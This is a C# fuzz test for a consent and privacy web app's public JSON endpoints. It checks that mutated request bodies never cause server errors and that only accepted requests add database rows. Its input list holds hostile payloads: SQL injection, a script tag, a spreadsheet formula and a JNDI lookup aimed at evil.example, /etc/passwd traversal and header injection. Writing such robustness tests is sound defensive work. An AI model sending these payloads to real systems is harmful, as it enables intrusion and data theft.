using System.Text;
using System.Text.Json.Nodes;
using CsCheck;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Vern.Data;
using Vern.Tests.Consent;
using Vern.Tests.Infrastructure;

namespace Vern.Tests.Platform;

/// <summary>
/// Random bodies against every public JSON endpoint, each a mutation of a valid one (a field replaced,
/// removed or added, the body cut short, broken UTF-8, another shape altogether): the server never
/// answers 5xx, every refusal is problem details, and rows appear only for what was accepted.
/// </summary>
[StartsEarly]
public sealed class PublicApiFuzzTests
{
    private const int CasesPerEndpoint = 5_000;

    /// <summary>Each public JSON endpoint: a valid body to mutate, and the rows an accepted body adds (none for one that stores nothing).</summary>
    private static readonly Dictionary<string, Endpoint> Endpoints = new()
    {
        ["/api/v1/consent/visitors"] = new((_, _) => Task.FromResult(new JsonObject()), Rows: null),
        ["/api/v1/consent/decisions"] = new(async (_, client) => ConsentApi.Body(await ConsentApi.IssueVisitorIdAsync(client)), db => db.ConsentRecords.CountAsync()),
        ["/api/v1/rights-requests"] = new(
            (_, _) => Task.FromResult(new JsonObject { ["type"] = "access", ["email"] = "fuzz@example.com", ["details"] = "Everything you hold, please." }),
            db => db.RightsRequests.CountAsync(), Cases: 2_000),
        ["/api/v1/submissions"] = new(
            (_, _) => Task.FromResult(new JsonObject
            {
                ["form"] = "contact",
                ["purpose"] = "customer-relationship",
                ["email"] = "fuzz@example.com",
                ["name"] = "Ada Lovelace",
                ["company"] = "Analytical AS",
                ["phone"] = "+47 400 00 000",
                ["message"] = "A demo, please.",
                ["policyVersion"] = 1,
            }),
            db => db.Submissions.CountAsync()),
        // Every accepted sign-up is audited once, whether it sent a link or found the address subscribed already.
        ["/api/v1/newsletter/subscriptions"] = new(
            (_, _) => Task.FromResult(new JsonObject { ["email"] = "fuzz@example.com", ["language"] = "en" }),
            db => db.AuditEntries.CountAsync(e => e.Action == "newsletter.asked"), Cases: 2_000),
        // Accepted batches are written a moment later, and one Vern may not count (no consent, no browser) is accepted
        // and dropped: what is stored is checked in the analytics tests, not by counting here.
        ["/api/v1/analytics/events"] = new(
            async (app, client) =>
            {
                var visitor = await ConsentApi.IssueVisitorIdAsync(client);
                await ConsentApi.RecordAsync(client, ConsentApi.Body(visitor, analytics: true));
                return new JsonObject
                {
                    ["visitorId"] = visitor,
                    ["events"] = new JsonArray(new JsonObject { ["type"] = "pageview", ["url"] = new Uri(app.BaseAddress, "/pricing?utm_source=x").ToString(), ["referrer"] = "https://www.google.com/", ["screen"] = 1280 }),
                };
            },
            Rows: null, Cases: 2_000),
        // A customer's system with its key; without a product connector each accepted request waits for staff.
        ["/api/v1/processor/requests"] = new(
            async (app, client) =>
            {
                client.DefaultRequestHeaders.Authorization = new("Bearer", await ProcessorKeyAsync(app));
                return new JsonObject { ["kind"] = "erasure", ["endUser"] = "user-4711", ["details"] = "All of it." };
            },
            db => db.ForwardedRequests.CountAsync(), Cases: 1_000),
    };

    public static TheoryData<string> Paths => [.. Endpoints.Keys];

    /// <param name="Cases">
    /// How many bodies: fewer where each accepted one costs a confirmation e-mail written to disk, and mutations
    /// still reach both sides of validation many times over.
    /// </param>
    private sealed record Endpoint(Func<TestApp, HttpClient, Task<JsonObject>> Seed, Func<AppDb, Task<int>>? Rows, int Cases = CasesPerEndpoint);

    /// <summary>A request body as sent: bytes and their declared type.</summary>
    private sealed record Body(byte[] Bytes, string ContentType)
    {
        public override string ToString()
        {
            var text = Encoding.UTF8.GetString(Bytes);
            return $"{ContentType}: {text[..Math.Min(text.Length, 500)]}";
        }
    }

    [Fact]
    public async Task Every_public_json_endpoint_is_fuzzed()
    {
        await using var app = await TestApp.StartAsync();
        var posts = app.Get<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Where(e => e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods.Contains("POST") == true)
            .Select(e => "/" + e.RoutePattern.RawText!.TrimStart('/'))
            .Where(p => p.StartsWith("/api/", StringComparison.Ordinal) && !p.StartsWith("/api/admin/", StringComparison.Ordinal))
            .Order().ToList();

        Assert.Equal(Endpoints.Keys.Order(), posts);
    }

    [Theory]
    [MemberData(nameof(Paths))]
    public async Task Random_bodies_never_get_a_5xx_and_write_only_what_was_accepted(string path)
    {
        await using var app = await TestApp.StartAsync();
        using var client = app.CreateClient();
        var endpoint = Endpoints[path];
        var seed = await endpoint.Seed(app, client);
        var before = await CountAsync(app, endpoint);
        var accepted = 0;

        // Many in flight: an accepted submission answers no sooner than its even response time, which is
        // waiting, not work.
        await Cases(seed).SampleAsync(async body =>
        {
            using var content = new ByteArrayContent(body.Bytes);
            content.Headers.TryAddWithoutValidation("Content-Type", body.ContentType);
            using var response = await client.PostAsync(path, content);
            var status = (int)response.StatusCode;
            if (status >= 500)
                Assert.Fail($"{status} for {body}: {await response.Content.ReadAsStringAsync()}\nServer errors:\n"
                    + string.Join('\n', app.Logs.Lines.Where(l => l.StartsWith("Error", StringComparison.Ordinal) || l.StartsWith("Critical", StringComparison.Ordinal)).Take(3)));
            if (status is >= 200 and < 300)
                Interlocked.Increment(ref accepted);
            else
                Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        }, iter: endpoint.Cases, threads: 32);

        if (endpoint.Rows is null)
            return;
        // The mutations must reach both sides of validation, or the run proved little.
        Assert.InRange(accepted, 1, endpoint.Cases - 1);
        Assert.Equal(before + accepted, await CountAsync(app, endpoint));
    }

    private static async Task<int> CountAsync(TestApp app, Endpoint endpoint)
    {
        if (endpoint.Rows is null)
            return 0;
        await using var scope = app.CreateScope();
        return await endpoint.Rows(scope.ServiceProvider.GetRequiredService<AppDb>());
    }

    private static readonly string[] Nasty =
    [
        "", " ", "' OR '1'='1' --", "\"; DROP TABLE \"Subjects\"; --", "%s%s%n", "{0}", "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example\")", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "\u0000", "\r\n\tX-Injected: 1",
        "a@b", "fuzz@example.com", "Fuzz@EXAMPLE.com ", "\u202Eevil\u202C", "😀👩‍👩‍👧", "NaN", "-1", "1e309", "null", "true",
        "access", "erasure", "withdraw-consent", "accept_all", "custom", "gpc", "contact", "newsletter", "en", "nb", "xx",
        new string('a', 70_000), new string('é', 5_000),
    ];

    private static Gen<string> Pick(params string[] values) => Gen.Int[0, values.Length - 1].Select(i => values[i]);

    private static readonly Gen<string> Text = Gen.Frequency(
        (3, Pick(Nasty)),
        (2, Gen.Char.Where(c => !char.IsSurrogate(c)).Array[0, 300].Select(a => new string(a))),
        (1, Gen.Char['a', 'z'].Array[1, 30].Select(a => new string(a) + "@example.com")));

    private static readonly Gen<JsonNode?> Leaf = Gen.OneOf(
        Gen.Const((JsonNode?)null),
        Gen.Bool.Select(b => (JsonNode?)b),
        Gen.Int.Select(i => (JsonNode?)i),
        Gen.Long.Select(l => (JsonNode?)l),
        Gen.Double.Where(double.IsFinite).Select(d => (JsonNode?)d),
        Text.Select(s => (JsonNode?)s));

    private static Gen<JsonNode?> Value(int depth) => depth == 0 ? Leaf : Gen.Frequency(
        (6, Leaf),
        (1, Value(depth - 1).Array[0, 5].Select(items => (JsonNode?)new JsonArray(items))),
        (1, Gen.Select(Text.Array[0, 5], Value(depth - 1).Array[5], (names, values) =>
        {
            var node = new JsonObject();
            for (var i = 0; i < names.Length; i++)
                node[names[i]] = values[i];
            return (JsonNode?)node;
        })));

    private static Gen<Body> Cases(JsonObject seed)
    {
        // A body that has no fields of its own (issuing a visitor id) still gets fields set and removed.
        string[] fields = seed.Count > 0 ? [.. seed.Select(p => p.Key)] : ["visitorId"];
        var json = "application/json";
        var mutated = Gen.Select(Gen.Int[1, 3], Gen.Int, Value(2), Text, (kind, which, value, name) =>
        {
            var body = seed.DeepClone().AsObject();
            var field = fields[(which & int.MaxValue) % fields.Length];
            switch (kind)
            {
                case 1: body[field] = value; break;
                case 2: body.Remove(field); break;
                default: body[name] = value; break;
            }
            return body;
        });
        var twiceMutated = mutated.SelectMany(first => Gen.Int.Select(Value(2), (which, value) =>
        {
            first[fields[(which & int.MaxValue) % fields.Length]] = value?.DeepClone();
            return first;
        }));
        return Gen.Frequency(
            (6, mutated.Select(b => new Body(Encoding.UTF8.GetBytes(b.ToJsonString()), json))),
            (3, twiceMutated.Select(b => new Body(Encoding.UTF8.GetBytes(b.ToJsonString()), json))),
            (1, Value(3).Select(v => new Body(Encoding.UTF8.GetBytes(v?.ToJsonString() ?? "null"), json))),
            (1, Gen.Int.Select(cut =>
            {
                var whole = Encoding.UTF8.GetBytes(seed.ToJsonString());
                return new Body(whole[..((cut & int.MaxValue) % whole.Length)], json);
            })),
            (1, Gen.Byte.Array[0, 200].Select(bytes => new Body(bytes, json))),
            (1, Pick("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1", "application/xml")
                .Select(type => new Body(Encoding.UTF8.GetBytes(seed.ToJsonString()), type))));
    }

    /// <summary>A key of a customer's contact, for the processor API.</summary>
    private static async Task<string> ProcessorKeyAsync(TestApp app)
    {
        var customer = await Customers.AgreementTests.AddCustomerAsync(app, "Lindqvist Retail AB", "Karin Lindqvist", "karin@lindqvist.example");
        await using var scope = app.CreateScope();
        var contact = await scope.ServiceProvider.GetRequiredService<AppDb>().CustomerContacts.Where(c => c.CustomerId == customer).Select(c => c.SubjectId).SingleAsync();
        return (await scope.ServiceProvider.GetRequiredService<Features.Customers.Requests.CustomerApiKeys>().IssueAsync(contact, customer, "Fuzz", CancellationToken.None))!;
    }
}
